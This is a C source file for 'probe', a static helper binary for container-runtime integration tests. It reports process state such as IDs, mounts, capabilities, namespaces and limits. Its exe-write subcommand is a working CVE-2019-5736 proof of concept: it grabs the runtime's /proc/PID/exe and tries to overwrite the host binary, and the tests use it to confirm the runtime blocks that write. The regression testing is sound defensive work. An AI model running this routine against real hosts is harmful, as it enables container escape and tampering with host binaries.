/* probe - a static test binary copied into every integration-test rootfs.
 *
 * It reports one aspect of the process it runs as, from inside the
 * container, in a line-oriented machine-readable form that the bats tests
 * compare with jq/grep/awk.  It is linked statically so that it runs in a
 * rootfs that has no libc, and it depends on nothing but the kernel's /proc.
 * One subcommand per aspect; see cmd_help() for the list and output formats.
 * Exit status: 0 on success, 1 when the aspect could not be read (with a
 * message on stderr), 2 on bad usage; `write` uses 1 for a refused write so
 * that tests can tell a read-only path from a writable one.
 */
#include <config.h>

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <linux/keyctl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sched.h>
#include <stdint.h>
#include <sys/ioctl.h>
#include <sys/personality.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/utsname.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

/* every subcommand has the same signature; most ignore their arguments */
#define UNUSED __attribute__ ((unused))

static int
fail (const char *what, const char *obj)
{
  fprintf (stderr, "probe: %s '%s': %s\n", what, obj, strerror (errno));
  return 1;
}

static int
usage_error (const char *msg)
{
  fprintf (stderr, "probe: %s (try 'probe help')\n", msg);
  return 2;
}

static int
cmd_hostname (int argc UNUSED, char **argv UNUSED)
{
  char buf[HOST_NAME_MAX + 1];

  if (gethostname (buf, sizeof buf) < 0)
    return fail ("gethostname", "");
  buf[HOST_NAME_MAX] = '\0';
  printf ("%s\n", buf);
  return 0;
}

static int
cmd_pid (int argc UNUSED, char **argv UNUSED)
{
  printf ("%d\n", (int)getpid ());
  return 0;
}

static int
cmd_ppid (int argc UNUSED, char **argv UNUSED)
{
  printf ("%d\n", (int)getppid ());
  return 0;
}

/* "uid=U gid=G euid=U egid=G groups=A,B" (groups empty when none). */
static int
cmd_uid (int argc UNUSED, char **argv UNUSED)
{
  gid_t groups[NGROUPS_MAX];
  int n = getgroups (NGROUPS_MAX, groups);

  if (n < 0)
    return fail ("getgroups", "");
  printf ("uid=%u gid=%u euid=%u egid=%u groups=", (unsigned)getuid (), (unsigned)getgid (),
          (unsigned)geteuid (), (unsigned)getegid ());
  for (int i = 0; i < n; i++)
    printf ("%s%u", i ? "," : "", (unsigned)groups[i]);
  printf ("\n");
  return 0;
}

static int
cmd_env (int argc UNUSED, char **argv UNUSED)
{
  for (char **e = environ; *e; e++)
    printf ("%s\n", *e);
  return 0;
}

static int
cmd_cwd (int argc UNUSED, char **argv UNUSED)
{
  char buf[PATH_MAX];

  if (getcwd (buf, sizeof buf) == NULL)
    return fail ("getcwd", "");
  printf ("%s\n", buf);
  return 0;
}

/* Copies a file to stdout; used by `cat` and for the /proc files that are
 * reported unchanged. */
static int
copy_file (const char *path)
{
  char buf[8192];
  ssize_t n;
  int fd = open (path, O_RDONLY | O_CLOEXEC);

  if (fd < 0)
    return fail ("open", path);
  fflush (stdout);
  while ((n = read (fd, buf, sizeof buf)) > 0)
    if (write (STDOUT_FILENO, buf, n) != n)
      {
        close (fd);
        return fail ("write", "stdout");
      }
  if (n < 0)
    {
      close (fd);
      return fail ("read", path);
    }
  close (fd);
  return 0;
}

static int
cmd_cat (int argc, char **argv)
{
  if (argc < 2)
    return usage_error ("cat needs a PATH");
  return copy_file (argv[1]);
}

/* mountinfo: "ID PARENT MAJ:MIN ROOT MOUNTPOINT OPTIONS [OPTIONAL...] - FSTYPE
 * SOURCE SUPEROPTS".  Prints "MOUNTPOINT FSTYPE OPTIONS", which is what tests
 * compare: IDs and device numbers differ between runs and runtimes. */
static int
cmd_mounts (int argc UNUSED, char **argv UNUSED)
{
  char line[4096];
  FILE *f = fopen ("/proc/self/mountinfo", "re");

  if (f == NULL)
    return fail ("open", "/proc/self/mountinfo");
  while (fgets (line, sizeof line, f))
    {
      char *fields[64];
      int n = 0, dash = -1;

      for (char *tok = strtok (line, " \n"); tok && n < 64; tok = strtok (NULL, " \n"))
        {
          if (strcmp (tok, "-") == 0 && dash < 0)
            dash = n;
          fields[n++] = tok;
        }
      if (n < 6 || dash < 0 || dash + 1 >= n)
        continue;
      printf ("%s %s %s\n", fields[4], fields[dash + 1], fields[5]);
    }
  fclose (f);
  return 0;
}

/* Prints the /proc/self/status lines whose key starts with one of the
 * prefixes, as "Key value". */
static int
status_lines (const char *const *keys)
{
  char line[512];
  FILE *f = fopen ("/proc/self/status", "re");

  if (f == NULL)
    return fail ("open", "/proc/self/status");
  while (fgets (line, sizeof line, f))
    for (const char *const *k = keys; *k; k++)
      {
        size_t len = strlen (*k);
        if (strncmp (line, *k, len) == 0 && line[len] == ':')
          {
            char *v = line + len + 1;
            v += strspn (v, " \t");
            printf ("%s %s", *k, v);
          }
      }
  fclose (f);
  return 0;
}

static int
cmd_caps (int argc UNUSED, char **argv UNUSED)
{
  static const char *const keys[] = { "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", NULL };
  return status_lines (keys);
}

/* Prints only the value, 0 or 1. */
static int
cmd_nnp (int argc UNUSED, char **argv UNUSED)
{
  char line[256];
  FILE *f = fopen ("/proc/self/status", "re");

  if (f == NULL)
    return fail ("open", "/proc/self/status");
  while (fgets (line, sizeof line, f))
    if (strncmp (line, "NoNewPrivs:", 11) == 0)
      {
        printf ("%d\n", atoi (line + 11));
        fclose (f);
        return 0;
      }
  fclose (f);
  errno = ENOENT;
  return fail ("find NoNewPrivs in", "/proc/self/status");
}

/* "FD TARGET" per open descriptor, the directory stream's own fd excluded. */
static int
cmd_fds (int argc UNUSED, char **argv UNUSED)
{
  DIR *d = opendir ("/proc/self/fd");
  struct dirent *de;

  if (d == NULL)
    return fail ("open", "/proc/self/fd");
  while ((de = readdir (d)))
    {
      char path[sizeof "/proc/self/fd/" + NAME_MAX], target[PATH_MAX];
      ssize_t n;

      if (de->d_name[0] == '.' || atoi (de->d_name) == dirfd (d))
        continue;
      snprintf (path, sizeof path, "/proc/self/fd/%s", de->d_name);
      n = readlink (path, target, sizeof target - 1);
      if (n < 0)
        continue;
      target[n] = '\0';
      printf ("%s %s\n", de->d_name, target);
    }
  closedir (d);
  return 0;
}

static int
cmd_umask (int argc UNUSED, char **argv UNUSED)
{
  mode_t m = umask (0);

  umask (m);
  printf ("%04o\n", (unsigned)m);
  return 0;
}

static const struct
{
  const char *name;
  int resource;
} rlimits[] = {
  { "AS", RLIMIT_AS },           { "CORE", RLIMIT_CORE },         { "CPU", RLIMIT_CPU },
  { "DATA", RLIMIT_DATA },       { "FSIZE", RLIMIT_FSIZE },       { "LOCKS", RLIMIT_LOCKS },
  { "MEMLOCK", RLIMIT_MEMLOCK }, { "MSGQUEUE", RLIMIT_MSGQUEUE }, { "NICE", RLIMIT_NICE },
  { "NOFILE", RLIMIT_NOFILE },   { "NPROC", RLIMIT_NPROC },       { "RSS", RLIMIT_RSS },
  { "RTPRIO", RLIMIT_RTPRIO },   { "RTTIME", RLIMIT_RTTIME },     { "SIGPENDING", RLIMIT_SIGPENDING },
  { "STACK", RLIMIT_STACK },
};

static void
print_limit (rlim_t v)
{
  if (v == RLIM_INFINITY)
    printf ("unlimited");
  else
    printf ("%llu", (unsigned long long)v);
}

/* NAME as in config.json (RLIMIT_NOFILE) or short (nofile); prints "SOFT HARD". */
static int
cmd_rlimit (int argc, char **argv)
{
  const char *name;
  struct rlimit rl;

  if (argc < 2)
    return usage_error ("rlimit needs a NAME");
  name = argv[1];
  if (strncasecmp (name, "RLIMIT_", 7) == 0)
    name += 7;
  for (size_t i = 0; i < sizeof rlimits / sizeof rlimits[0]; i++)
    if (strcasecmp (name, rlimits[i].name) == 0)
      {
        if (getrlimit (rlimits[i].resource, &rl) < 0)
          return fail ("getrlimit", argv[1]);
        print_limit (rl.rlim_cur);
        printf (" ");
        print_limit (rl.rlim_max);
        printf ("\n");
        return 0;
      }
  return usage_error ("unknown rlimit");
}

/* "TYPE TARGET" for each namespace link, e.g. "net net:[4026531840]". */
static int
cmd_ns (int argc UNUSED, char **argv UNUSED)
{
  static const char *const types[]
    = { "cgroup", "ipc", "mnt", "net", "pid", "pid_for_children", "time", "time_for_children",
        "user",   "uts", NULL };

  for (const char *const *t = types; *t; t++)
    {
      char path[64], target[128];
      ssize_t n;

      snprintf (path, sizeof path, "/proc/self/ns/%s", *t);
      n = readlink (path, target, sizeof target - 1);
      if (n < 0)
        continue; /* the kernel may lack this namespace type */
      target[n] = '\0';
      printf ("%s %s\n", *t, target);
    }
  return 0;
}

static const char *
file_type (mode_t m)
{
  switch (m & S_IFMT)
    {
    case S_IFREG:
      return "file";
    case S_IFDIR:
      return "dir";
    case S_IFLNK:
      return "symlink";
    case S_IFCHR:
      return "char";
    case S_IFBLK:
      return "block";
    case S_IFIFO:
      return "fifo";
    case S_IFSOCK:
      return "socket";
    }
  return "unknown";
}

/* "TYPE MODE MAJOR:MINOR" of PATH itself (lstat); MODE in octal with the
 * setuid/setgid/sticky bits; MAJOR:MINOR of the device a node stands for
 * (0:0 for anything but char and block nodes). */
static int
cmd_stat (int argc, char **argv)
{
  struct stat st;

  if (argc < 2)
    return usage_error ("stat needs a PATH");
  if (lstat (argv[1], &st) < 0)
    return fail ("stat", argv[1]);
  printf ("%s %04o %u:%u\n", file_type (st.st_mode), (unsigned)(st.st_mode & 07777), major (st.st_rdev),
          minor (st.st_rdev));
  return 0;
}

/* Exit 0 when PATH could be created/truncated and written, 1 otherwise. */
static int
cmd_write (int argc, char **argv)
{
  size_t len;
  int fd;

  if (argc < 3)
    return usage_error ("write needs PATH and DATA");
  fd = open (argv[1], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0)
    return fail ("open", argv[1]);
  len = strlen (argv[2]);
  if (write (fd, argv[2], len) != (ssize_t)len)
    {
      close (fd);
      return fail ("write", argv[1]);
    }
  if (close (fd) < 0)
    return fail ("close", argv[1]);
  return 0;
}

static int
cmd_exit (int argc, char **argv)
{
  if (argc < 2)
    return usage_error ("exit needs a status");
  exit (atoi (argv[1]));
}

static int
cmd_sleep (int argc, char **argv)
{
  struct timespec ts;
  double secs;

  if (argc < 2)
    return usage_error ("sleep needs SECS");
  secs = strtod (argv[1], NULL);
  ts.tv_sec = (time_t)secs;
  ts.tv_nsec = (long)((secs - (double)ts.tv_sec) * 1e9);
  while (nanosleep (&ts, &ts) < 0 && errno == EINTR)
    ;
  return 0;
}

/* Prints "ready", then replaces PATH with 1, 2, 3... every 10 ms, forever:
 * whether the process runs shows in the file (pause/resume tests).  Each
 * value is renamed into place, so a reader never sees a partial one. */
static int
cmd_count (int argc, char **argv)
{
  struct timespec ts = { 0, 10 * 1000 * 1000 };
  unsigned long n = 0;
  char tmp[4096], buf[32];

  if (argc < 2)
    return usage_error ("count needs PATH");
  snprintf (tmp, sizeof tmp, "%s.tmp", argv[1]);
  printf ("ready\n");
  fflush (stdout);
  for (;;)
    {
      int len = snprintf (buf, sizeof buf, "%lu\n", ++n);
      int fd = open (tmp, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);

      if (fd < 0 || write (fd, buf, (size_t)len) != len || close (fd) < 0)
        return fail ("write", tmp);
      if (rename (tmp, argv[1]) < 0)
        return fail ("rename", argv[1]);
      nanosleep (&ts, NULL);
    }
}

static void
ignore_signal (int sig UNUSED)
{
}

/* Prints "ready", then the name of the first signal it receives, and exits
 * 0.  As PID 1 of a PID namespace a process only receives signals it has a
 * handler for, so every catchable signal gets one as well as being blocked
 * for sigwaitinfo. */
static int
cmd_signal_wait (int argc UNUSED, char **argv UNUSED)
{
  struct sigaction sa;
  sigset_t all;
  siginfo_t info;
  int sig;

  memset (&sa, 0, sizeof sa);
  sa.sa_handler = ignore_signal;
  sigfillset (&all);
  sigprocmask (SIG_BLOCK, &all, NULL);
  for (int s = 1; s < NSIG; s++)
    if (s != SIGKILL && s != SIGSTOP && s != SIGCHLD)
      sigaction (s, &sa, NULL);
  sigdelset (&all, SIGCHLD);
  printf ("ready\n");
  fflush (stdout);
  do
    sig = sigwaitinfo (&all, &info);
  while (sig < 0 && errno == EINTR);
  if (sig < 0)
    return fail ("sigwaitinfo", "");
  if (sig >= SIGRTMIN && sig <= SIGRTMAX)
    printf ("SIGRTMIN+%d\n", sig - SIGRTMIN);
  else
    printf ("SIG%s\n", sigabbrev_np (sig) ? sigabbrev_np (sig) : "UNKNOWN");
  return 0;
}

/* sched: "POLICY NICE PRIORITY" from sched_getattr (raw syscall: static
 * glibc has no wrapper); POLICY as the runtime-spec names it. */
static int
cmd_sched (int argc UNUSED, char **argv UNUSED)
{
  static const char *const names[]
    = { "SCHED_OTHER", "SCHED_FIFO", "SCHED_RR", "SCHED_BATCH", "SCHED_ISO", "SCHED_IDLE", "SCHED_DEADLINE" };
  struct
  {
    uint32_t size, policy;
    uint64_t flags;
    int32_t nice;
    uint32_t priority;
    uint64_t runtime, deadline, period;
  } a;

  memset (&a, 0, sizeof a);
  if (syscall (SYS_sched_getattr, 0, &a, sizeof a, 0) < 0)
    return fail ("sched_getattr", "self");
  printf ("%s %d %u\n", a.policy < 7 ? names[a.policy] : "?", (int)a.nice, (unsigned)a.priority);
  return 0;
}

/* ioprio: "CLASS PRIORITY" of ioprio_get(IOPRIO_WHO_PROCESS, self). */
static int
cmd_ioprio (int argc UNUSED, char **argv UNUSED)
{
  static const char *const names[]
    = { "IOPRIO_CLASS_NONE", "IOPRIO_CLASS_RT", "IOPRIO_CLASS_BE", "IOPRIO_CLASS_IDLE" };
  long v = syscall (SYS_ioprio_get, 1, 0);

  if (v < 0)
    return fail ("ioprio_get", "self");
  printf ("%s %ld\n", (v >> 13) < 4 ? names[v >> 13] : "?", v & 0xff);
  return 0;
}

/* personality: the persona in hex, then the uname machine. */
static int
cmd_personality (int argc UNUSED, char **argv UNUSED)
{
  struct utsname u;
  int p = personality (0xffffffff);

  if (p < 0 || uname (&u) < 0)
    return fail ("personality", "self");
  printf ("0x%x %s\n", (unsigned)p, u.machine);
  return 0;
}

/* affinity: the allowed cpus as a list, "0,2,3". */
static int
cmd_affinity (int argc UNUSED, char **argv UNUSED)
{
  cpu_set_t set;
  const char *sep = "";

  if (sched_getaffinity (0, sizeof set, &set) < 0)
    return fail ("sched_getaffinity", "self");
  for (int i = 0; i < CPU_SETSIZE; i++)
    if (CPU_ISSET (i, &set))
      {
        printf ("%s%d", sep, i);
        sep = ",";
      }
  printf ("\n");
  return 0;
}

/* clock: "monotonic SECS" and "boottime SECS" (whole seconds). */
static int
cmd_clock (int argc UNUSED, char **argv UNUSED)
{
  struct timespec m, b;

  if (clock_gettime (CLOCK_MONOTONIC, &m) < 0 || clock_gettime (CLOCK_BOOTTIME, &b) < 0)
    return fail ("clock_gettime", "");
  printf ("monotonic %lld\nboottime %lld\n", (long long)m.tv_sec, (long long)b.tv_sec);
  return 0;
}

/* exe-write SECS: the CVE-2019-5736 attacker.  For up to SECS seconds, look
 * for another process whose /proc/PID/exe names berth and hold that binary
 * with an O_PATH descriptor; then keep reopening it for writing (ETXTBSY
 * while it still runs) and write into it.  Prints "caught PID TARGET", then
 * "wrote" or "refused: REASON".  Exit 0 when it caught one, 1 otherwise. */
static int
exe_grab (char *target, size_t size)
{
  DIR *d = opendir ("/proc");
  struct dirent *de;
  int fd = -1;

  while (d && fd < 0 && (de = readdir (d)) != NULL)
    {
      char path[300];
      ssize_t n;
      if (atoi (de->d_name) <= 0 || atoi (de->d_name) == getpid ())
        continue;
      snprintf (path, sizeof path, "/proc/%s/exe", de->d_name);
      n = readlink (path, target, size - 1);
      if (n <= 0)
        continue;
      target[n] = '\0';
      if (strstr (target, "berth") == NULL)
        continue;
      fd = open (path, O_PATH | O_CLOEXEC);
      if (fd >= 0)
        printf ("caught %s %s\n", de->d_name, target);
    }
  if (d)
    closedir (d);
  return fd;
}

static int
cmd_exe_write (int argc, char **argv)
{
  static const char payload[] = "#!/bin/sh\necho overwritten by the container\n";
  char target[PATH_MAX], self[64];
  time_t end = time (NULL) + (argc > 1 ? atoi (argv[1]) : 10);
  int fd = -1, w = -1;

  printf ("ready\n");
  fflush (stdout);
  while (fd < 0 && time (NULL) < end)
    fd = exe_grab (target, sizeof target);
  if (fd < 0)
    return fail ("find a berth process", "/proc");
  snprintf (self, sizeof self, "/proc/self/fd/%d", fd);
  for (end = time (NULL) + 10; w < 0 && time (NULL) < end;)
    {
      w = open (self, O_WRONLY | O_CLOEXEC);
      if (w < 0 && errno != ETXTBSY)
        break;
      if (w < 0)
        usleep (1000);
    }
  if (w < 0)
    printf ("refused: open: %s\n", strerror (errno));
  else if (pwrite (w, payload, sizeof payload - 1, 0) < 0)
    printf ("refused: write: %s\n", strerror (errno));
  else
    printf ("wrote\n");
  return 0;
}

/* mkdir PATH: "mkdir 0" or "mkdir errno N" (exit 1): what a seccomp
 * filter or notify agent made of the syscall, as a number. */
static int
cmd_mkdir (int argc, char **argv)
{
  if (argc < 2)
    return usage_error ("mkdir needs PATH");
  if (mkdir (argv[1], 0755) < 0)
    {
      printf ("mkdir errno %d\n", errno);
      return 1;
    }
  printf ("mkdir 0\n");
  return 0;
}

/* open PATH r|w|rw: "open 0", or "open errno N" (exit 1).  Only opens:
 * that is where the device cgroup decides. */
static int
cmd_open (int argc, char **argv)
{
  int flags, fd;

  if (argc < 3)
    return usage_error ("open needs PATH and r, w or rw");
  if (strcmp (argv[2], "r") == 0)
    flags = O_RDONLY;
  else if (strcmp (argv[2], "w") == 0)
    flags = O_WRONLY;
  else if (strcmp (argv[2], "rw") == 0)
    flags = O_RDWR;
  else
    return usage_error ("open mode is r, w or rw");
  fd = open (argv[1], flags | O_CLOEXEC | O_NOCTTY);
  if (fd < 0)
    {
      printf ("open errno %d\n", errno);
      return 1;
    }
  close (fd);
  printf ("open 0\n");
  return 0;
}

/* mknod PATH c|b MAJOR MINOR: "mknod 0", or "mknod errno N" (exit 1). */
static int
cmd_mknod (int argc, char **argv)
{
  mode_t type;

  if (argc < 5 || (strcmp (argv[2], "c") != 0 && strcmp (argv[2], "b") != 0))
    return usage_error ("mknod needs PATH, c or b, MAJOR and MINOR");
  type = argv[2][0] == 'c' ? S_IFCHR : S_IFBLK;
  if (mknod (argv[1], type | 0666, makedev (strtoul (argv[3], NULL, 10), strtoul (argv[4], NULL, 10))) < 0)
    {
      printf ("mknod errno %d\n", errno);
      return 1;
    }
  printf ("mknod 0\n");
  return 0;
}

/* The session keyring's description and SELinux label (KEYCTL_DESCRIBE,
 * KEYCTL_GET_SECURITY). */
static int
cmd_keyring (int argc UNUSED, char **argv UNUSED)
{
  char desc[512] = "", label[512] = "";
  long n;

  n = syscall (SYS_keyctl, KEYCTL_DESCRIBE, KEY_SPEC_SESSION_KEYRING, desc, sizeof desc);
  if (n < 0 || (size_t)n > sizeof desc)
    return fail ("keyctl describe", "session keyring");
  n = syscall (SYS_keyctl, KEYCTL_GET_SECURITY, KEY_SPEC_SESSION_KEYRING, label, sizeof label);
  if (n < 0 || (size_t)n > sizeof label)
    return fail ("keyctl get_security", "session keyring");
  printf ("%s\nlabel: %s\n", desc, label);
  return 0;
}

/* notify MESSAGE: one datagram to $NOTIFY_SOCKET (sd_notify). */
static int
cmd_notify (int argc, char **argv)
{
  const char *path = getenv ("NOTIFY_SOCKET");
  struct sockaddr_un a = { .sun_family = AF_UNIX };
  int fd;

  if (argc < 2)
    return usage_error ("notify needs a message");
  if (path == NULL || strlen (path) >= sizeof a.sun_path)
    return fail ("NOTIFY_SOCKET", path ? path : "");
  strcpy (a.sun_path, path);
  if (path[0] == '@')
    a.sun_path[0] = '\0';
  fd = socket (AF_UNIX, SOCK_DGRAM, 0);
  if (fd < 0 || sendto (fd, argv[1], strlen (argv[1]), 0, (struct sockaddr *)&a, sizeof a) < 0)
    return fail ("sendto", path);
  close (fd);
  return 0;
}

/* winsize: "ROWS COLS" of the terminal on fd 0 (TIOCGWINSZ). */
static int
print_winsize (void)
{
  struct winsize ws;

  if (ioctl (STDIN_FILENO, TIOCGWINSZ, &ws) < 0)
    return fail ("TIOCGWINSZ", "stdin");
  printf ("%u %u\n", (unsigned)ws.ws_row, (unsigned)ws.ws_col);
  fflush (stdout);
  return 0;
}

static int
cmd_winsize (int argc UNUSED, char **argv UNUSED)
{
  return print_winsize ();
}

/* winsize-wait: print the size, wait for SIGWINCH (blocked first so that
 * one sent right after the first line is not lost), print it again. */
static int
cmd_winsize_wait (int argc UNUSED, char **argv UNUSED)
{
  sigset_t set;
  int sig;

  sigemptyset (&set);
  sigaddset (&set, SIGWINCH);
  sigprocmask (SIG_BLOCK, &set, NULL);
  if (print_winsize () != 0)
    return 1;
  do
    sig = sigwaitinfo (&set, NULL);
  while (sig < 0 && errno == EINTR);
  if (sig < 0)
    return fail ("sigwaitinfo", "SIGWINCH");
  return print_winsize ();
}

static int cmd_help (int argc, char **argv);

static const struct
{
  const char *name;
  int (*fn) (int argc, char **argv);
  const char *help;
} commands[] = {
  { "hostname", cmd_hostname, "the UTS host name" },
  { "pid", cmd_pid, "getpid()" },
  { "ppid", cmd_ppid, "getppid()" },
  { "uid", cmd_uid, "uid=U gid=G euid=U egid=G groups=A,B" },
  { "env", cmd_env, "the environment, one NAME=VALUE a line" },
  { "cwd", cmd_cwd, "the working directory" },
  { "mounts", cmd_mounts, "MOUNTPOINT FSTYPE OPTIONS per mount" },
  { "caps", cmd_caps, "CapInh/CapPrm/CapEff/CapBnd/CapAmb HEX" },
  { "fds", cmd_fds, "FD TARGET per open file descriptor" },
  { "umask", cmd_umask, "the umask in octal" },
  { "rlimit", cmd_rlimit, "NAME: SOFT HARD of a resource limit" },
  { "nnp", cmd_nnp, "NoNewPrivs: 0 or 1" },
  { "ns", cmd_ns, "TYPE TARGET per /proc/self/ns link" },
  { "stat", cmd_stat, "PATH: TYPE MODE MAJOR:MINOR" },
  { "write", cmd_write, "PATH DATA: exit 0 when written, 1 when refused" },
  { "exit", cmd_exit, "N: exit with status N" },
  { "sleep", cmd_sleep, "SECS: sleep" },
  { "signal-wait", cmd_signal_wait, "print ready, wait for a signal, print its name" },
  { "cat", cmd_cat, "PATH: copy a file to stdout" },
  { "sched", cmd_sched, "POLICY NICE PRIORITY of the scheduler" },
  { "ioprio", cmd_ioprio, "CLASS PRIORITY of the I/O scheduler" },
  { "personality", cmd_personality, "PERSONA(hex) MACHINE" },
  { "affinity", cmd_affinity, "allowed cpus, comma-separated" },
  { "clock", cmd_clock, "monotonic SECS, boottime SECS" },
  { "exe-write", cmd_exe_write, "SECS: try to overwrite a berth binary seen in /proc (CVE-2019-5736)" },
  { "mkdir", cmd_mkdir, "PATH: mkdir 0, or mkdir errno N (exit 1)" },
  { "open", cmd_open, "PATH r|w|rw: open 0, or open errno N (exit 1)" },
  { "mknod", cmd_mknod, "PATH c|b MAJOR MINOR: mknod 0, or mknod errno N (exit 1)" },
  { "notify", cmd_notify, "MESSAGE: send it to $NOTIFY_SOCKET" },
  { "keyring", cmd_keyring, "the session keyring: TYPE;UID;GID;PERM;NAME, then label: LABEL" },
  { "help", cmd_help, "this list" },
  { "winsize", cmd_winsize, "ROWS COLS of the terminal on fd 0" },
  { "winsize-wait", cmd_winsize_wait, "ROWS COLS, wait for SIGWINCH, ROWS COLS again" },
  { "count", cmd_count, "PATH: print ready, then write 1, 2, 3... to PATH every 10 ms" },
};

static int
cmd_help (int argc UNUSED, char **argv UNUSED)
{
  printf ("usage: probe COMMAND [ARG...]\n");
  for (size_t i = 0; i < sizeof commands / sizeof commands[0]; i++)
    printf ("  %-12s %s\n", commands[i].name, commands[i].help);
  return 0;
}

int
main (int argc, char **argv)
{
  int rc;

  if (argc < 2)
    return usage_error ("no command given");
  for (size_t i = 0; i < sizeof commands / sizeof commands[0]; i++)
    if (strcmp (argv[1], commands[i].name) == 0)
      {
        rc = commands[i].fn (argc - 1, argv + 1);
        if (fflush (stdout) != 0 && rc == 0)
          rc = fail ("write", "stdout");
        return rc;
      }
  return usage_error ("unknown command");
}
